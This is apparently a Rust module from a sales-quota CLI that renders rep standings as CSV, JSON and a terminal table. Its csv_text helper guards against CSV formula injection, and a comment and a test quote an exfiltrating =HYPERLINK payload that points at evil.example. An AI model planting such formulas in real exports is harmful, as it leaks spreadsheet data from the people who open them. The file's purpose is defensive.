//! Standings as rows for `quotad standings`: one stable, documented row shape (the CSV
//! columns and JSON fields listed in the README), and a table for a 100-column terminal.
//! Every value is read from the computed standings; nothing is recomputed.

use rust_decimal::Decimal;
use serde::Serialize;
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

use super::Format;
use crate::domain::{BestKind, BoardKind, Judged, MonthStandings, Standards, Standing, same_team};

/// One rep's line of `quotad standings` (CSV columns and JSON fields, in this order).
/// Decimals are exact and unrounded unless the name says `_pct`; money is in currency
/// units; fractions are 0..1 (1.25 = 125%).
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct StandingRow {
    /// The month, YYYY-MM.
    pub period: String,
    /// The board ranked: results, attainment, ratings or paperwork.
    pub board: &'static str,
    /// "company" or the team's name.
    pub scope: String,
    /// Standard competition rank on the board; empty/null = not on it (no quota,
    /// inactive, too few ratings…).
    pub rank: Option<u32>,
    /// Places gained since last week (weekly standings only).
    pub movement: Option<i32>,
    /// The CRM's rep id.
    pub rep_id: Option<String>,
    /// Name as at the period's end.
    pub name: String,
    /// E-mail address.
    pub email: Option<String>,
    /// Team as at the period's end.
    pub team: String,
    /// Whether the rep is active.
    pub active: bool,
    /// Revenue, won minus cancelled, currency units.
    pub revenue: Decimal,
    /// Units, won minus cancelled.
    pub units: Decimal,
    /// Won deal rows.
    pub won_deals: u32,
    /// Cancellations.
    pub cancellations: u32,
    /// Revenue quota, currency units; empty = no quota.
    pub revenue_quota: Option<Decimal>,
    /// Attainment as an exact fraction; empty = no quota.
    pub attainment: Option<Decimal>,
    /// Attainment as displayed and ranked: percent, always one decimal ("99.9" for
    /// 99.95%: a value below 100% or below target never shows at or above it).
    pub attainment_pct: Option<Decimal>,
    /// Month-to-date pace as a fraction (months in progress only).
    pub pace: Option<Decimal>,
    /// Mean customer rating.
    pub rating: Option<Decimal>,
    /// Ratings the mean is over.
    pub rating_count: u32,
    /// Clean paperwork rate as a fraction.
    pub clean_paperwork: Option<Decimal>,
    /// Paperwork errors per won deal (lower is better).
    pub errors_per_deal: Option<Decimal>,
    /// New personal bests this month: a list in JSON, joined with ';' in CSV
    /// ("revenue;attainment").
    pub personal_bests: Vec<String>,
    /// Months in a row at quota.
    pub quota_streak: u32,
    /// First month at quota.
    pub first_at_quota: bool,
    /// The month's figures are preliminary.
    pub preliminary: bool,
    /// The date the figures are as of (newest export), YYYY-MM-DD.
    pub as_of: Option<String>,
    /// The standards the table shows judged figures against (not a CSV/JSON field).
    #[serde(skip)]
    pub(super) standards: Standards,
}

/// The rows of one board: the ranked reps in board order, then everyone else in scope
/// (unranked) by name, in the locale's order `names`. `team` limits the scope to one team (its team board's ranks),
/// matched however it is typed ([`same_team`]); the scope is named as displayed.
pub fn rows(
    m: &MonthStandings,
    board: BoardKind,
    team: Option<&str>,
    names: &crate::domain::NameOrder,
) -> Vec<StandingRow> {
    let team = team.map(|t| m.team_named(t).unwrap_or(t));
    let in_scope = |s: &&Standing| team.is_none_or(|t| same_team(&s.team, t));
    let b = m.board(board, team);
    let mut out = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for e in b.map(|b| b.entries.as_slice()).unwrap_or_default() {
        if let Some(s) = m.rep(&e.rep_key) {
            seen.insert(s.rep_key.clone());
            out.push(row(m, board, team, s, Some(e.rank), e.movement));
        }
    }
    let mut rest: Vec<&Standing> = m.reps.iter().filter(in_scope).filter(|s| !seen.contains(&s.rep_key)).collect();
    rest.sort_by_cached_key(|s| (!s.active, names.key(&s.name), s.rep_key.clone()));
    out.extend(rest.into_iter().map(|s| row(m, board, team, s, None, None)));
    out
}

fn row(
    m: &MonthStandings,
    board: BoardKind,
    team: Option<&str>,
    s: &Standing,
    rank: Option<u32>,
    movement: Option<i32>,
) -> StandingRow {
    StandingRow {
        period: m.period.to_string(),
        board: board.as_str(),
        scope: team.unwrap_or("company").to_string(),
        rank,
        movement,
        rep_id: s.rep_id.clone(),
        name: s.name.clone(),
        email: s.email.clone(),
        team: s.team.clone(),
        active: s.active,
        revenue: s.revenue,
        units: s.units,
        won_deals: s.won_deals,
        cancellations: s.cancellations,
        revenue_quota: s.revenue_quota,
        attainment: s.attainment,
        attainment_pct: s.attainment.map(|a| m.standards.shown(Judged::Attainment, a)),
        pace: s.pacing.as_ref().and_then(|p| p.pace),
        rating: s.rating,
        rating_count: s.rating_count,
        clean_paperwork: s.clean_paperwork,
        errors_per_deal: s.errors_per_deal,
        personal_bests: s
            .personal_bests
            .iter()
            .filter(|b| b.kind == BestKind::New)
            .map(|b| b.metric.to_string())
            .collect(),
        quota_streak: s.quota_streak,
        first_at_quota: s.first_at_quota,
        preliminary: m.preliminary,
        as_of: m.as_of.map(|d| d.to_string()),
        standards: m.standards.clone(),
    }
}

/// Rows as CSV with a header line ([`CSV_HEADER`]).
pub fn to_csv(rows: &[StandingRow]) -> String {
    let mut w = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
    let _ = w.write_record(CSV_HEADER);
    for r in rows {
        let _ = w.serialize(CsvRow::from(r));
    }
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// The CSV header, in column order (the fields of [`StandingRow`]).
pub const CSV_HEADER: [&str; 27] = [
    "period",
    "board",
    "scope",
    "rank",
    "movement",
    "rep_id",
    "name",
    "email",
    "team",
    "active",
    "revenue",
    "units",
    "won_deals",
    "cancellations",
    "revenue_quota",
    "attainment",
    "attainment_pct",
    "pace",
    "rating",
    "rating_count",
    "clean_paperwork",
    "errors_per_deal",
    "personal_bests",
    "quota_streak",
    "first_at_quota",
    "preliminary",
    "as_of",
];

/// A text cell for a CSV file that someone will open in a spreadsheet: a value that
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a
/// formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")` in a roster name runs
/// in the reader's Excel), so it gets a leading `'`, the OWASP rule for CSV injection;
/// anything else is unchanged. For text that came from input (names, teams, e-mail
/// addresses, rep ids), never for the numbers quotad writes (`-125000` stays a number).
/// JSON output is never changed.
pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}").into() } else { s.into() }
}

/// [`StandingRow`] flattened for CSV (lists joined with ';'); text from input through
/// [`csv_text`].
#[derive(Serialize)]
struct CsvRow<'a> {
    period: &'a str,
    board: &'a str,
    scope: std::borrow::Cow<'a, str>,
    rank: Option<u32>,
    movement: Option<i32>,
    rep_id: Option<std::borrow::Cow<'a, str>>,
    name: std::borrow::Cow<'a, str>,
    email: Option<std::borrow::Cow<'a, str>>,
    team: std::borrow::Cow<'a, str>,
    active: bool,
    revenue: Decimal,
    units: Decimal,
    won_deals: u32,
    cancellations: u32,
    revenue_quota: Option<Decimal>,
    attainment: Option<Decimal>,
    attainment_pct: Option<Decimal>,
    pace: Option<Decimal>,
    rating: Option<Decimal>,
    rating_count: u32,
    clean_paperwork: Option<Decimal>,
    errors_per_deal: Option<Decimal>,
    personal_bests: String,
    quota_streak: u32,
    first_at_quota: bool,
    preliminary: bool,
    as_of: Option<&'a str>,
}

impl<'a> From<&'a StandingRow> for CsvRow<'a> {
    fn from(r: &'a StandingRow) -> Self {
        CsvRow {
            period: &r.period,
            board: r.board,
            scope: csv_text(&r.scope),
            rank: r.rank,
            movement: r.movement,
            rep_id: r.rep_id.as_deref().map(csv_text),
            name: csv_text(&r.name),
            email: r.email.as_deref().map(csv_text),
            team: csv_text(&r.team),
            active: r.active,
            revenue: r.revenue,
            units: r.units,
            won_deals: r.won_deals,
            cancellations: r.cancellations,
            revenue_quota: r.revenue_quota,
            attainment: r.attainment,
            attainment_pct: r.attainment_pct,
            pace: r.pace,
            rating: r.rating,
            rating_count: r.rating_count,
            clean_paperwork: r.clean_paperwork,
            errors_per_deal: r.errors_per_deal,
            personal_bests: r.personal_bests.join(";"),
            quota_streak: r.quota_streak,
            first_at_quota: r.first_at_quota,
            preliminary: r.preliminary,
            as_of: r.as_of.as_deref(),
        }
    }
}

/// Pads or truncates (with "…") to `width` terminal columns.
fn fit(s: &str, width: usize, right: bool) -> String {
    let mut out = String::new();
    let mut w = 0;
    if s.width() > width {
        for c in s.chars() {
            let cw = c.width().unwrap_or(0);
            if w + cw + 1 > width {
                break;
            }
            out.push(c);
            w += cw;
        }
        out.push('…');
        w += 1;
    } else {
        out.push_str(s);
        w = s.width();
    }
    let pad = " ".repeat(width.saturating_sub(w));
    if right { format!("{pad}{out}") } else { format!("{out}{pad}") }
}

/// A plain-text table, at most 100 columns wide, numbers right-aligned, formatted for
/// the org's locale. `title` is printed above it.
pub fn to_table(rows: &[StandingRow], board: BoardKind, fmt: &Format, title: &str, weekly: bool) -> String {
    let opt = |v: Option<String>| v.unwrap_or_else(|| "—".into());
    let notes = |r: &StandingRow| {
        let mut n: Vec<String> = r.personal_bests.iter().map(|b| format!("PB {b}")).collect();
        if r.first_at_quota {
            n.push("1st quota".into());
        } else if r.quota_streak >= 2 {
            n.push(format!("quota ×{}", r.quota_streak));
        }
        if !r.active {
            n.push("inactive".into());
        }
        n.join(", ")
    };
    // (header, width, right-aligned, value)
    type Col<'a> = (&'a str, usize, bool, Box<dyn Fn(&StandingRow) -> String + 'a>);
    let mut cols: Vec<Col> = vec![("#", 3, true, Box::new(|r: &StandingRow| opt(r.rank.map(|x| x.to_string()))))];
    if weekly {
        cols.push((
            "±",
            3,
            true,
            Box::new(|r: &StandingRow| match r.movement {
                Some(m) if m > 0 => format!("▲{m}"),
                Some(m) if m < 0 => format!("▼{}", -m),
                Some(_) => "=".into(),
                None => "".into(),
            }),
        ));
    }
    cols.push(("Rep", 20, false, Box::new(|r: &StandingRow| r.name.clone())));
    cols.push(("Team", 14, false, Box::new(|r: &StandingRow| r.team.clone())));
    match board {
        BoardKind::Results | BoardKind::Attainment => {
            cols.push(("Revenue", 12, true, Box::new(move |r: &StandingRow| fmt.money(r.revenue))));
            cols.push(("Units", 5, true, Box::new(move |r: &StandingRow| fmt.number(r.units, 1))));
            cols.push(("Quota", 12, true, Box::new(move |r: &StandingRow| opt(r.revenue_quota.map(|q| fmt.money(q))))));
            cols.push((
                "Attain",
                7,
                true,
                Box::new(move |r: &StandingRow| {
                    opt(r.attainment.map(|a| fmt.judged(&r.standards, Judged::Attainment, a)))
                }),
            ));
            cols.push((
                "Pace",
                6,
                true,
                Box::new(move |r: &StandingRow| opt(r.pace.map(|p| format_pace(fmt, &r.standards, p)))),
            ));
        }
        BoardKind::Ratings => {
            cols.push((
                "Rating",
                6,
                true,
                Box::new(move |r: &StandingRow| opt(r.rating.map(|x| fmt.judged(&r.standards, Judged::Rating, x)))),
            ));
            cols.push(("n", 4, true, Box::new(|r: &StandingRow| r.rating_count.to_string())));
            cols.push(("Revenue", 12, true, Box::new(move |r: &StandingRow| fmt.money(r.revenue))));
        }
        BoardKind::Paperwork => {
            cols.push((
                "Clean",
                7,
                true,
                Box::new(move |r: &StandingRow| {
                    opt(r.clean_paperwork.map(|x| fmt.judged(&r.standards, Judged::CleanPaperwork, x)))
                }),
            ));
            cols.push((
                "Err/deal",
                8,
                true,
                Box::new(move |r: &StandingRow| opt(r.errors_per_deal.map(|x| fmt.fixed(x, 2)))),
            ));
            cols.push(("Deals", 5, true, Box::new(|r: &StandingRow| r.won_deals.to_string())));
        }
    }
    // A figure is never cut: a right-aligned (numeric) column widens to its widest value
    // (money with the currency's decimals, a long currency symbol); only names and notes
    // are shortened with "…".
    for (header, width, right, f) in &mut cols {
        if *right {
            *width = rows.iter().map(|r| f(r).width()).chain([header.width(), *width]).max().unwrap_or(*width);
        }
    }
    let used: usize = cols.iter().map(|c| c.1 + 1).sum();
    let notes_width = 100usize.saturating_sub(used).max(8);
    cols.push(("Notes", notes_width, false, Box::new(notes)));
    let mut out = format!("{title}\n");
    let line = |cells: Vec<String>| cells.join(" ").trim_end().to_string();
    out.push_str(&line(cols.iter().map(|(h, w, right, _)| fit(h, *w, *right)).collect()));
    out.push('\n');
    for r in rows {
        out.push_str(&line(cols.iter().map(|(_, w, right, f)| fit(&f(r), *w, *right)).collect()));
        out.push('\n');
    }
    out
}

/// Pace as displayed and judged, without a zero decimal (`85%`, `85.5%`; `85 %`,
/// `85,5 %` in de-DE).
fn format_pace(fmt: &Format, st: &Standards, p: Decimal) -> String {
    let v = st.shown(Judged::Pace, p);
    if v.fract().is_zero() { fmt.percent_shown(v.trunc()) } else { fmt.percent_shown(v) }
}

#[cfg(test)]
mod tests {
    use super::{Format, Standards, csv_text, format_pace};

    #[test]
    fn pace_drops_a_zero_decimal_in_every_locale() {
        let d = |s: &str| s.parse::<rust_decimal::Decimal>().unwrap();
        let st =
            Standards { rating: None, paperwork: None, min_ratings: 3, below_target: d("0.8"), off_pace: d("0.8") };
        let us = Format::new("en-US", "USD").unwrap();
        assert_eq!(format_pace(&us, &st, d("0.85")), "85%");
        assert_eq!(format_pace(&us, &st, d("0.855")), "85.5%");
        // 79.96% is below the 80% off-pace line: 79.9%, never 80%.
        assert_eq!(format_pace(&us, &st, d("0.7996")), "79.9%");
        let de = Format::new("de-DE", "EUR").unwrap();
        assert_eq!(format_pace(&de, &st, d("0.85")), "85\u{a0}%", "the old '.0%' replace missed de-DE's '85,0 %'");
        assert_eq!(format_pace(&de, &st, d("0.855")), "85,5\u{a0}%");
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_get_a_leading_quote_and_nothing_else_changes() {
        assert_eq!(
            csv_text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
        );
        assert_eq!(csv_text("@SUM(A1:A9)"), "'@SUM(A1:A9)");
        assert_eq!(csv_text("+North"), "'+North");
        assert_eq!(csv_text("-Cy Cole"), "'-Cy Cole");
        assert_eq!(csv_text("\t=1+1"), "'\t=1+1");
        assert_eq!(csv_text("\r=1+1"), "'\r=1+1");
        // Elsewhere in the cell is harmless; ordinary text is untouched.
        for s in ["José Núñez", "Ann = Bob", "ann+tag@example.com", "R-1", "", "'quoted"] {
            assert_eq!(csv_text(s), s);
        }
    }
}
